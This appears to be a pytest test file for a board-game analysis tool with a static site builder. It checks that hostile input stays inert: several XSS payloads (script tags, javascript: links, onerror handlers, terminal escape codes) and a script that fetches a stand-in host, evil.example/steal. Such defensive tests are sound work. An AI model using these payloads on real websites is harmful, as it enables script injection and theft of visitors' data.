"""Hostile input: output folders that must not be replaced, board text that must stay text, tampered
records, odd names, special files, impossible options. Each gets one clear line; nothing is lost."""

from __future__ import annotations

import html
import json
import os
import re
import signal
import stat
import subprocess
import time
from pathlib import Path

import pytest
from helpers import CHUTES, bundled_boards, chutes, new_project

from chutes.cli import run
from chutes.cli.site import compute_stage
from chutes.compute.board.cost import check_cost, estimated_seconds
from chutes.compute.board.file import load_board
from chutes.compute.stage import cached_record, update
from chutes.compute.store.files import checksum, dumps
from chutes.compute.store.results import ResultCache
from chutes.site_build import pipeline
from chutes.site_build.checks import unsafe_markup
from chutes.site_build.pages import words
from chutes.site_build.project import SITE_MARKER

HOSTILE_TITLE = ("&lt;/title&gt;&lt;script&gt;alert(2)&lt;/script&gt; <script>alert(1)</script> {: onclick=alert(3)} "
                 "[x](javascript:alert(4)) a|b ](c) `code` *em* _u_ <img src=x onerror=alert(5)>\nsecond \\ line")
HOSTILE_SOURCE = ("<script>fetch('https://evil.example/steal')</script> [link](javascript:alert(6)) "
                  "<a href='https://evil.example/'>out</a> {: onclick=alert(7)} | x |\n\n# heading\n!!! note")


def _toml(text: str) -> str:
    return json.dumps(text)  # a JSON string is a valid TOML basic string


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A site built from the tiny board and a copy of it whose title and source are attacks."""
    project = new_project(tmp_path_factory.mktemp("hostile"))
    tiny = (project.boards_dir / "tiny.toml").read_text()
    evil = re.sub(r"^title = .*$", lambda _: f"title = {_toml(HOSTILE_TITLE)}", tiny, flags=re.M)
    evil = re.sub(r"^source = .*$", lambda _: f"source = {_toml(HOSTILE_SOURCE)}", evil, flags=re.M)
    (project.boards_dir / "evil.toml").write_text(evil)
    return pipeline.build_site(project, compute_stage(quiet=True))


def _text(page: str) -> str:
    """What a reader sees of an HTML fragment: tags removed, character references decoded."""
    return html.unescape(re.sub(r"<[^>]+>", "", page))


@pytest.mark.xdist_group("hostile-site")  # on one worker, which builds the hostile site once
def test_board_text_is_shown_as_typed_and_never_runs(hostile_site: Path) -> None:
    evil = (hostile_site / "boards" / "evil" / "index.html").read_text()
    tiny = (hostile_site / "boards" / "tiny" / "index.html").read_text()
    assert evil.count("<script") == tiny.count("<script"), "no script element comes from board text"
    assert not re.search(r"(href|src)=\"?javascript:", evil)
    theme = [hostile_site.parent / ".cache" / "theme", Path(__import__("material").__file__).parent / "templates"]
    assert unsafe_markup(hostile_site, theme) == []  # the site's theme (its own scripts) and Material's
    one_line = " ".join(HOSTILE_TITLE.split())
    title = re.search(r"<title>(.*?)</title>", evil, re.S).group(1)
    assert _text(title).startswith(one_line), "the <title> shows the title as typed"
    heading = re.search(r"<h1[^>]*>(.*?)</h1>", evil, re.S).group(1)
    assert _text(heading).strip().startswith(one_line)
    assert " ".join(HOSTILE_SOURCE.split()) in _text(evil), "the source is shown as typed"


@pytest.mark.xdist_group("hostile-site")
def test_board_text_breaks_no_table_and_no_chart(hostile_site: Path) -> None:
    home = (hostile_site / "index.html").read_text()
    table = re.search(r"<table>.*?</table>", home, re.S).group(0)
    rows = re.findall(r"<tr>.*?</tr>", table, re.S)
    assert len(rows) == 3 and all(row.count("<td") == 6 for row in rows[1:]), "one row per board, six cells"
    for page in ("compare", "boards/evil", "boards/tiny"):
        text = (hostile_site / page / "index.html").read_text()
        figures = re.findall(r'<div class="chutes-figure"[^>]*>(.*?)</div>', text, re.S)
        assert figures
        for figure in figures:
            json.loads(html.unescape(figure))  # every chart's JSON still parses
    legend = [t["name"] for t in json.loads(html.unescape(re.findall(
        r'<div class="chutes-figure"[^>]*>(.*?)</div>', (hostile_site / "compare" / "index.html").read_text(),
        re.S)[0]))["data"]]
    assert html.unescape(legend[0]) == " ".join(HOSTILE_TITLE.split()), "Plotly shows the legend as typed"


def test_the_build_refuses_markup_the_templates_did_not_write(tmp_path: Path, monkeypatch) -> None:
    project = new_project(tmp_path / "p")
    (project.boards_dir / "tiny.toml").write_text(
        (project.boards_dir / "tiny.toml").read_text().replace('title = "A 10-square test board"',
                                                               'title = "<img src=data:, onerror=alert(1)>"'))
    monkeypatch.setattr(words, "plain", lambda text: text)  # as if the templates forgot to escape
    monkeypatch.setattr(words, "front_matter", json.dumps)
    with pytest.raises(Exception, match="event handler attribute onerror"):
        pipeline.build_site(project, compute_stage(quiet=True))
    assert not project.site_dir.exists()


def test_a_folder_not_made_by_chutes_is_never_replaced(tmp_path: Path, capsys) -> None:
    project = new_project(tmp_path / "p")
    thesis = tmp_path / "thesis"
    (thesis / ".git").mkdir(parents=True)
    (thesis / "thesis.tex").write_text("years of work")
    for target in (thesis, project.root / "site_src", project.root, tmp_path, Path("/")):
        status = run(["build", "--project", str(project.root), "--site-dir", str(target)])
        err = capsys.readouterr().err.strip().splitlines()
        assert status == 2 and len(err) == 1 and "--site-dir" in err[0], err
    assert (thesis / "thesis.tex").read_text() == "years of work" and (thesis / ".git").is_dir()
    assert sorted(p.name for p in project.boards_dir.iterdir()) == ["tiny.toml"]
    assert not project.cache_dir.exists(), "refused before any work"


def test_a_relative_site_dir_is_taken_from_the_working_directory(tmp_path: Path, monkeypatch) -> None:
    project = new_project(tmp_path / "p")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    assert run(["build", "--project", str(project.root), "--site-dir", "out"]) == 0
    out = elsewhere / "out"
    assert (out / "boards" / "tiny" / "index.html").is_file() and (out / SITE_MARKER).is_file()
    assert sorted(p.name for p in elsewhere.iterdir()) == ["out"], "no staging folder is left behind"
    assert run(["build", "--project", str(project.root), "--site-dir", "out"]) == 0, "its own folder is replaced"


def test_the_published_site_is_readable_by_everyone(tmp_path: Path) -> None:
    project = new_project(tmp_path / "p")
    old = os.umask(0o077)
    try:
        site = pipeline.build_site(project, compute_stage(quiet=True))
    finally:
        os.umask(old)
    modes = {stat.S_IMODE(p.stat().st_mode) for p in [site, *site.rglob("*")] if p.is_dir()}
    assert modes == {0o755}
    assert {stat.S_IMODE(p.stat().st_mode) for p in site.rglob("*") if p.is_file()} == {0o644}


def test_a_tampered_record_with_a_valid_checksum_is_recomputed(tmp_path: Path) -> None:
    project = new_project(tmp_path / "p")
    compute_stage(quiet=True)(project)
    cache = ResultCache(project.cache_dir)
    [path] = cache.records()
    clean = path.read_bytes()
    record = json.loads(clean)
    record["results"]["game_length"]["over_within"]["20"] = {"numerator": "1732", "denominator": "1000",
                                                             "decimal": "1.732"}
    record["checksum"] = checksum(record)
    path.write_bytes(dumps(record))
    messages: list[str] = []
    board = load_board(project.boards_dir / "tiny.toml")
    loaded, problem = cached_record(cache, board)
    assert loaded is None and "implausible record" in problem and "not a reduced fraction" in problem

    [outcome] = update([board], cache, log=messages.append, progress=False)
    assert outcome.computed and path.read_bytes() == clean


def test_records_of_removed_boards_are_pruned_and_odd_slugs_touch_nothing(tmp_path: Path) -> None:
    project = new_project(tmp_path / "p", ["tiny", "short"])
    compute_stage(quiet=True)(project)
    cache = ResultCache(project.cache_dir)
    assert sorted(cache.slug_of(p) for p in cache.records()) == ["short", "tiny"]
    (project.boards_dir / "b?.toml").write_text((project.boards_dir / "tiny.toml").read_text())
    out = chutes("compute", "--project", str(project.root))
    assert out.returncode == 2 and "the file name must be letters" in out.stderr
    assert sorted(cache.slug_of(p) for p in cache.records()) == ["short", "tiny"]
    (project.boards_dir / "b?.toml").unlink()
    (project.boards_dir / "short.toml").unlink()
    compute_stage(quiet=True)(project)
    assert [cache.slug_of(p) for p in cache.records()] == ["tiny"]


def test_a_read_only_cache_still_serves_a_cached_run(tmp_path: Path, monkeypatch) -> None:
    project = new_project(tmp_path / "p")
    keys = [r.key for r in compute_stage(quiet=True)(project)]

    class ReadOnly:
        def __init__(self, path: object) -> None:
            pass

        def acquire(self, timeout: float = -1) -> None:
            raise PermissionError(13, "Permission denied", str(project.cache_dir / ".lock"))

    monkeypatch.setattr("chutes.compute.stage.FileLock", ReadOnly)
    assert [r.key for r in compute_stage(quiet=True)(project)] == keys
    with pytest.raises(PermissionError):
        compute_stage(force=True, quiet=True)(project)


def test_boards_beyond_the_time_budget_are_refused_before_any_work(tmp_path: Path) -> None:
    board = tmp_path / "huge.toml"
    ladders = [[k, k + 7] for k in range(5, 990, 23)]
    board.write_text(f'squares = 1000\ndie = 20\novershoot = "bounce"\nroll_again_on = 20\nladders = {ladders}\n')
    seconds, stage = estimated_seconds(load_board(board))
    assert seconds > 300 and "two-player" in stage
    out = chutes("solve", str(board), timeout=60)
    assert out.returncode == 2 and len(out.stderr.strip().splitlines()) == 1
    assert "would take about" in out.stderr and "limit 120 s" in out.stderr
    for slug, path in bundled_boards().items():
        check_cost(load_board(path), slug)  # every bundled board fits


@pytest.mark.parametrize(("args", "expected"), [
    (("solve", "classic", "--positions", "1_0,2"), "plain digits"),
    (("solve", "classic", "--positions", "٣,٤"), "plain digits"),
    (("serve", "--dev-addr", "127.0.0.1:99999"), "port from 1 to 65535"),
    (("serve", "--dev-addr", "nonsense"), "port from 1 to 65535"),
    (("experiment", "add-jump", "tiny", "--min-length", "3", "--scheduler", "not a url"), "--scheduler"),
    (("build", "--site-url", "not a url"), "--site-url"),
    (("build", "--project", "/nonexistent/project"), "no mkdocs.yml"),
    (("new", "."), "not an empty folder"),
])
def test_odd_options_are_one_line(args: tuple[str, ...], expected: str) -> None:
    out = chutes(*args, timeout=120)
    lines = out.stderr.strip().splitlines()
    assert out.returncode == 2 and len(lines) == 1 and expected in lines[0], out.stderr
    assert "Traceback" not in out.stderr


def test_simulating_a_billion_games_needs_no_big_allocation() -> None:
    """Games are played in batches: the summary of many batches equals one long run's."""
    import numpy as np

    from chutes.compute.solve.simulate import (
        BATCH_CHUNKS,
        CHUNK,
        first_player_share,
        mean_turns,
        simulate_summary,
        two_player_games,
    )

    board = load_board(bundled_boards()["tiny"])
    games = BATCH_CHUNKS * CHUNK // 2 * 2 + 12345
    summary = simulate_summary(board, games, seed=5)
    first, second = two_player_games(board, games, seed=5)
    whole = mean_turns(np.concatenate([first, second]))
    assert summary.first_player == first_player_share(first, second)
    assert summary.mean_turns.value == pytest.approx(whole.value, rel=1e-12)
    assert summary.shortest == min(first.min(), second.min()) and summary.longest == max(first.max(), second.max())


def test_titles_with_terminal_escapes_print_harmlessly(tmp_path: Path) -> None:
    board = tmp_path / "esc.toml"
    board.write_text('title = "bad\\u001b[2J\\u001b]0;owned\\u0007 title"\nsquares = 10\ndie = 6\n')
    out = chutes("solve", str(board), "--players", "3")
    assert out.returncode == 0, out.stderr
    assert "\x1b" not in out.stdout and "\x07" not in out.stdout and "bad\\x1b[2J" in out.stdout


def _session(sid: int) -> list[int]:
    """The processes still running in a session (a run started with start_new_session has sid = its pid)."""
    alive = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[3]) == sid and fields[0] != "Z":
                alive.append(int(entry.name))
    return alive


@pytest.mark.parametrize("sig", [signal.SIGKILL, signal.SIGTERM])
def test_workers_end_with_a_killed_run(tmp_path: Path, sig: int) -> None:
    proc = subprocess.Popen([*CHUTES, "experiment", "add-jump", "classic-47", "--jobs", "2", "--cache", str(tmp_path)],
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, start_new_session=True)
    deadline = time.monotonic() + 120
    while not list(tmp_path.glob("*.parts/*.json")):  # the workers are running once a piece is stored
        assert proc.poll() is None and time.monotonic() < deadline, "the sweep ended before a piece was stored"
        time.sleep(0.05)
    assert len(_session(proc.pid)) >= 3, "the run, its forkserver and workers"
    os.kill(proc.pid, sig)
    status = proc.wait(timeout=60)
    if sig == signal.SIGTERM:
        assert status == 130 and "interrupted" in proc.stderr.read().decode()
    deadline = time.monotonic() + 30
    while _session(proc.pid) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert _session(proc.pid) == [], "no forkserver, resource tracker or worker outlives the run"


def test_two_builds_of_one_project_take_turns(tmp_path: Path) -> None:
    project = new_project(tmp_path / "p")
    procs = [subprocess.Popen([*CHUTES, "build", "--project", str(project.root), "--site-dir", str(tmp_path / name)],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for name in ("a", "b")]
    outputs = [p.communicate(timeout=600) for p in procs]
    assert [p.returncode for p in procs] == [0, 0], outputs
    for name in ("a", "b"):
        assert (tmp_path / name / "boards" / "tiny" / "index.html").is_file()
